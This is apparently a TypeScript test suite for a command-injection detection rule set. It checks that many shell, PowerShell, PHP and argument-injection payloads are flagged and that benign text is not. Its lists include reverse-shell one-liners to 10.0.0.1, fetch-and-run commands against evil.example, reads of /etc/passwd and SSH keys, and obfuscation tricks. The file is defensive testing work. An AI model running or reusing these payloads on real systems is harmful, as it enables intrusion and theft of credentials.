import { test } from 'node:test';
import assert from 'node:assert/strict';
import { rules, shellNormalize } from './cmdi.ts';
import { matchAll, timeAll, ruleMetaProblems } from './lib/testing.ts';

test('rule metadata is well formed', () => {
  assert.deepEqual(ruleMetaProblems(rules), []);
});

test('detects commands after separators, substitutions and evasions', () => {
  const attacks = [
    'foo;id',
    'x; id;',
    'a | cat /etc/shadow',
    "'| uname -a",
    'x && dir c:\\',
    'x || whoami',
    'x%0aid',
    'host%0Als -la /',
    '1.2.3.4 & ping -n 30 127.0.0.1 &',
    '`id`',
    'a=$(whoami)',
    '$(curl -s http://evil.example/x.sh)',
    "x;c''at /etc/hosts",
    'x;c\\at /etc/hosts',
    'x;cat$IFS/etc/hosts',
    'x;cat${IFS}/etc/hosts',
    'x;{cat,/etc/hosts}',
    'x;/???/??t /etc/hosts',
    'x;wh$()oami', 'x;who$@ami', 'x;wh$1oami', 'x;wh``oami', 'x;wh\\\noami',
    'x;/usr/bin/id',
    'x | type C:\\boot.ini',
    'x & net user hacker P4ss /add',
    'x; powershell -enc SQBFAFgA',
    'cmd /c whoami',
    '() { :;}; /bin/bash -c "id"',
    'x; sleep 10',
    'x; nc -e /bin/sh 10.0.0.1 4444',
    'who^ami & ver',
    'x & nslookup abc.oast.example &',
    'x; curl evil.example/x.sh | sh',
    ';echo${IFS}vulnerable',
    '127.0.0.1|busybox nc 10.0.0.1 80',
    'x\\n\\033[2Acurl https://evil.example/x.sh',
    'x\n\u001b[1;31mwget http://evil.example/a',
  ];
  for (const a of attacks) assert.ok(matchAll(rules, a).length > 0, `missed ${a}`);
});

test('detects values that are command lines, and PHP code', () => {
  const attacks = [
    'cat /etc/hosts',
    'ls -la /var/www',
    'nc -lvvp 4444 -e /bin/sh',
    'whoami',
    'ipconfig /all',
    'ping -c 30 127.0.0.1',
    '<?php system($_GET["c"]); ?>',
    "system('id')",
    'shell_exec("ls")',
    'phpinfo()',
    '${@print(md5(x))}',
    '{${phpinfo()}}',
    "os.system('id')",
    'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
    'a:1:{i:0;O:+4:"Evil":0:{}}',
    'Tzo0OiJFdmlsIjowOnt9', // base64 of O:4:"Evil":0:{}
  ];
  for (const a of attacks) assert.ok(matchAll(rules, a).length > 0, `missed ${a}`);
});

test('does not flag benign text, code spans and ordinary field values', () => {
  const benign = [
    'Tom & Jerry',
    'R&D; type A and B',
    'fish & chips | more later',
    'See the `id` and `type` fields; they are required.',
    'id',
    'pwd',
    'hostname',
    'name,id,email',
    'last / lowest priority',
    'java --version',
    'print("hello from a python script!")',
    'The system (as designed) works',
    'Please ping me at 5pm; cat lovers welcome',
    'Sleep well; see you tomorrow',
    'Q&A session',
    'C:\\Users\\report.docx',
    'echo chamber',
    'x=1&y=2',
    "      'type': 'object',",
    'which Node.js versions provide a given Node-API version',
    'you must run `node --http-parser=legacy` to monkey-patch',
    'a pattern like `x:/*` or `//host/share/*` will match',
    'Set $IFS in your shell profile',
  ];
  for (const b of benign) assert.deepEqual(matchAll(rules, b), [], `false positive on ${b}`);
  // paranoia 2 adds the looser start-of-value rule
  assert.ok(matchAll(rules, 'java --version', 'query', 2).includes('932160'));
});

test('detects substitutions glued to a word, ANSI-C quoting and variable-built commands', () => {
  const attacks = [
    // backtick / `$(` glued after the expected value
    '127.0.0.1`id`', 'x`whoami`', 'a$(id)', '127.0.0.1`cat /etc/passwd`', 'host1`uname -a`', '8.8.8.8$(sleep 5)',
    'test.com`nslookup x.oast.example`',
    // ANSI-C quoting (hex, octal, \u, \U, inside a word, as the whole value)
    "x;$'\\x69\\x64'", "x;$'\\151\\144'", "x;$'\\u0069d'", "x&&$'\\U00000069'd", "x|$'\\x63\\x61\\x74' /etc/passwd",
    "x;c$'\\x61't /etc/passwd", "x;$'\\x2fbin\\x2fsh' -c id", "$'\\x69\\x64'", 'x;$"id"',
    // variables: assignments, unset variables inside a word, slices, the shell's own name
    'x;a=i;b=d;$a$b', 'x;a=c;b=at;$a$b /etc/passwd', "x;a='i';b=\"d\";${a}${b}", 'x;u=id;$u',
    'x;c${u}at /etc/passwd', 'x|ca${x}t /etc/passwd', 'x;w${u}h${u}o${u}a${u}m${u}i', 'x;cat$u /etc/passwd',
    'x;${PATH:0:1}etc${PATH:0:1}passwd', 'x;cat ${HOME:0:1}etc${HOME:0:1}passwd', 'x;${PATH%%u*}bin${PATH%%u*}id',
    'x&%ProgramData:~0,1%%ProgramData:~9,2% /c whoami',
    'x;$0', 'x;${!#}', 'x|$0 -c id', "x;${0} -c 'id'", 'x;${x:-id}', 'x;$SHELL -c id', 'x;${SHELL} -c id',
  ];
  for (const a of attacks) assert.ok(matchAll(rules, a).length > 0, `missed ${a}`);
  assert.equal(shellNormalize("$'\\x69\\x64'"), 'id');
  assert.equal(shellNormalize("$'\\151\\144'"), 'id');
  assert.equal(shellNormalize('a=i;b=d;$a$b'), 'a=i;b=d;id');
  assert.equal(shellNormalize('c${u}at'), 'cat');
  assert.equal(shellNormalize('${PATH:0:1}etc'), '/etc');
});

test('detects here-strings, redirections and /dev/tcp reverse shells', () => {
  const attacks = [
    "x;bash<<<'id'", 'x;sh<<<$(echo aWQ=|base64 -d)', 'x;cat</etc/passwd', 'x;bash<<<id', "x;zsh<<<$'\\x69\\x64'",
    'x;base64 -d<<<aWQ=|sh', 'x;sh<<EOF\\nid\\nEOF', 'x;echo pwned>/var/www/html/x.php', 'x;tee /tmp/x<<<pwn',
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'exec 5<>/dev/tcp/evil/80',
    '0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196', 'sh -i >& /dev/udp/10.0.0.1/4242 0>&1',
    'x;cat /etc/passwd > /dev/tcp/10.0.0.1/9000', 'x;sh -i 5<> /dev/tcp/10.0.0.1/4242 0<&5 1>&5 2>&5',
    `awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { s |& getline c }}' /dev/null`,
    // PowerShell and cmd
    'x;iex(iwr evil.example/a.ps1)', 'x; Invoke-WebRequest -Uri http://evil/x -OutFile C:\\x.exe', 'x;$env:comspec',
    'x|wmic process call create calc.exe', 'x;rundll32 javascript:"\\..\\mshtml,RunHTMLApplication"',
  ];
  for (const a of attacks) assert.ok(matchAll(rules, a).length > 0, `missed ${a}`);
});

test('detects argument injection into the command an app runs', () => {
  const attacks = [
    '--output=/var/www/x.php', '-oProxyCommand=id', '-o ProxyCommand=id', '-oLocalCommand=id', '--upload-pack=touch /tmp/x',
    '--receive-pack=id', '-exec id ;', '-execdir sh -c id ;', '--checkpoint-action=exec=sh x.sh',
    '--checkpoint=1 --checkpoint-action=exec=id', '-o /tmp/x', '-O /var/www/html/shell.php', '--output-document=/var/www/s.php',
    '-d @/etc/passwd', '--data-binary=@/etc/passwd', '-T /etc/passwd', '--post-file=/etc/passwd', '-c core.sshCommand=id',
    '-c core.pager=id', '--use-compress-program=sh x', '--to-command=id', '--unzip-command=id', '-e sh -c id', '--rsh=id',
    '--rsync-path=id', '-X/var/www/html/log.php', '-K /tmp/x.conf', '--open-files-in-pager=id', '--renderer-cmd-prefix=id',
    '-fprintf /var/www/x.php %p',
  ];
  for (const a of attacks) assert.ok(matchAll(rules, a).includes('932220'), `missed ${a}`);
  // paranoia 2: any option with a value; a bare flag never
  assert.ok(matchAll(rules, '--color=auto', 'query', 2).includes('932221'));
  assert.ok(matchAll(rules, '-v /data:/data', 'query', 2).includes('932221'));
  assert.deepEqual(matchAll(rules, '-v /data:/data'), []);
  assert.deepEqual(matchAll(rules, '--verbose', 'query', 2), []);
});

test('does not flag Markdown code spans, prices, templates, flags and shell-looking prose', () => {
  const benign = [
    'use `npm install`',
    'Run `cat file.txt` then `ls -la` in the repo',
    'The `id`s and `type`s are listed; see `GET`/`id`',
    '`foo`bar`baz`', 'I love `c`++ and `x`y',
    'email subject: Re: [ticket-123] `build` failed; see log',
    "Costs $5; tax $'s not included", "the company$'s policy", 'Sales of $5M | $10M & more',
    'Shipping; $0', 'Shipping fee: $0 | Tax: $0', 'Total: $0.00; discount $0', '|Item|Price|\n|Free|$0|', 'Price: US$100; EUR 90',
    'Dear ${firstName}; your order ${orderId} | ${status}', 'Hello ${name}!', '${greeting}, ${user.name}',
    'server.port=${PORT:8080}', 'image: ${REGISTRY:-docker.io}/app:${TAG}', 'Hi ${name:-there}; ${greeting:-welcome}',
    'Your $SHELL is set; ${SHELL} too', 'name=John; age=30; $name is here',
    "It's $HOME sweet $HOME", 'pa$$word', 'a=1&b=2&c=$a',
    '--verbose', '--help', '-v', '-1.5', '- item one', '-- John', '-my-file-2024.pdf', '--no-pager', '-webkit-transition',
    '-5 degrees', '-Infinity', '--color=auto', '-n 5', '-v /data:/data', '-fiSiol\u00f3gicamente',
    '{"a": "x <<< y", "b": "<<<EOF"}', 'x <<< y', 'a << b >> c', 'see /dev/tcp in the bash manual',
    'bash can open /dev/tcp/host/port for you', 'echo chamber; cat videos & more', 'Use ; to separate | and & to join',
    'Tom & Jerry > /r/cartoons',
  ];
  for (const b of benign) assert.deepEqual(matchAll(rules, b), [], `false positive on ${b}`);
});

test('a value opening with a command word and a weak argument followed by words is prose, not a command line', () => {
  // quoted word, number or host name, then a plain word that is no command
  const prose = [
    "Type 'yes' to confirm", 'Type "DELETE" to confirm', "Type 'and' or 'or' between terms", 'Echo "hi" back to me',
    "Cat 'Tom' and mouse 'Jerry'", "which 'plan' is best?", 'Sleep 8 hours, drink water', 'sleep 8 hours',
    'ping 8.8.8.8 fails from the office', 'curl example.com works from my laptop',
  ];
  for (const b of prose) assert.deepEqual(matchAll(rules, b), [], `false positive on ${b}`);
  // the same commands with strong or shell-shaped arguments, or ending after the argument, still fire
  const attacks = [
    'sleep 8', 'sleep 10s', 'ping 8.8.8.8', 'ping 8.8.8.8 -c 4', 'curl evil.example', "echo 'hello world'", "echo 'x' > /tmp/y",
    "type 'C:\\boot.ini'", 'timeout 10 bash -c id', 'sleep 5 ls', 'net localgroup Administrators hacker /ADD',
    'dir C:\\Documents and Settings\\*', 'cat /etc/hosts shows the right ip',
  ];
  for (const a of attacks) assert.ok(matchAll(rules, a).length > 0, `missed ${a}`);
});

test('detects ANSI-C quoted assignments, $(< file), located commands, cmd call and one-wildcard program globs', () => {
  const attacks = [
    "x;X=$'\\x69d';$X", "x;c=$'\\143at';$c /etc/passwd", 'x;p=$(which id);$p', 'x;p=`which whoami`;$p',
    '$(</etc/passwd)', 'x;echo $(< ~/.ssh/id_rsa)', 'x|call whoami', 'x&call net user', 'x;rev<<<di|sh',
    'x;/bin/ba?h -c id', 'x;/usr/bin/c*t /etc/passwd', 'x;/bin/w?oami', 'x|/usr/bin/wge? http://evil.example/s',
  ];
  for (const a of attacks) assert.notDeepEqual(matchAll(rules, a), [], `missed: ${a}`);
  const benign = [
    'x;rev up the engine', 'call me maybe; call us', 'Call Mom; call Dad at 5', 'what is $(< 5)', "a = $'s value",
    'list: /bin/l?', 'a;/bin/x?z', 'see /usr/bin/*.sh; /usr/bin/foo?', 'which one? $(which of these)', 'rev. 2; rev 3',
  ];
  for (const b of benign) assert.deepEqual(matchAll(rules, b), [], `false positive on ${b}`);
});

test('shellNormalize removes quote, backslash and IFS evasions', () => {
  assert.equal(shellNormalize("c''at"), 'cat');
  assert.equal(shellNormalize('c\\at'), 'cat');
  assert.equal(shellNormalize('cat$IFS/etc'), 'cat /etc');
  assert.equal(shellNormalize('{cat,/etc/x}').trim(), 'cat /etc/x');
  // expansions that are empty inside a word, and line continuations
  for (const w of ['wh$()oami', 'who$@ami', 'wh$1oami', 'who$*ami', 'wh``oami', 'wh\\\noami']) assert.equal(shellNormalize(w), 'whoami', w);
  // not inside a word: kept (prose with prices, code)
  assert.equal(shellNormalize('costs $1 today'), 'costs $1 today');
  assert.equal(shellNormalize('use `code` here'), 'use `code` here');
});

test('linear time on 64 KiB pathological input', () => {
  const inputs = [';'.repeat(65536), '; id'.repeat(16384).slice(0, 65536), '`'.repeat(65536), '$('.repeat(32768), "c''".repeat(21845), '{cat,'.repeat(13107), '/?'.repeat(32768), 'system('.repeat(9362), '()'.repeat(32768), 'a'.repeat(65536)];
  // the scans added for ANSI-C quoting, variables, slices, /dev/tcp, `$0`, redirections and options
  const k64 = (u: string) => u.repeat(Math.ceil(65536 / u.length)).slice(0, 65536);
  inputs.push(
    k64("$'"), k64("$'\\'"), k64("$'\\x69"), k64("x;$'\\151\\144'"), k64('a=b;'), 'a=' + 'x'.repeat(64) + ';' + k64('$a'),
    k64('a$u'), k64('a${u}'), k64('${a:0:1}'), k64('${a%%'), k64('%a:~0,1%'), k64(':~'), k64('>& /dev/tcp/'),
    '>/dev/tcp/' + 'a'.repeat(65526), k64('"/inet/tcp/1/'), k64(';$0'), k64(';${!#}'), k64(';cat >'), k64('x`'), k64('a`id`'),
    '-' + k64(' -o'), '-' + k64(' -'), k64('-o /'), k64(';iex('),
    k64("a=$'\\x69';"), k64('$(<'), k64('$( < /'), k64(';/bin/*'), k64(';/bin/' + '*?'.repeat(20) + ' '), k64('|call '),
  );
  for (const s of inputs) {
    const ms = timeAll(rules, s);
    assert.ok(ms < 2000, `took ${ms} ms`);
  }
});
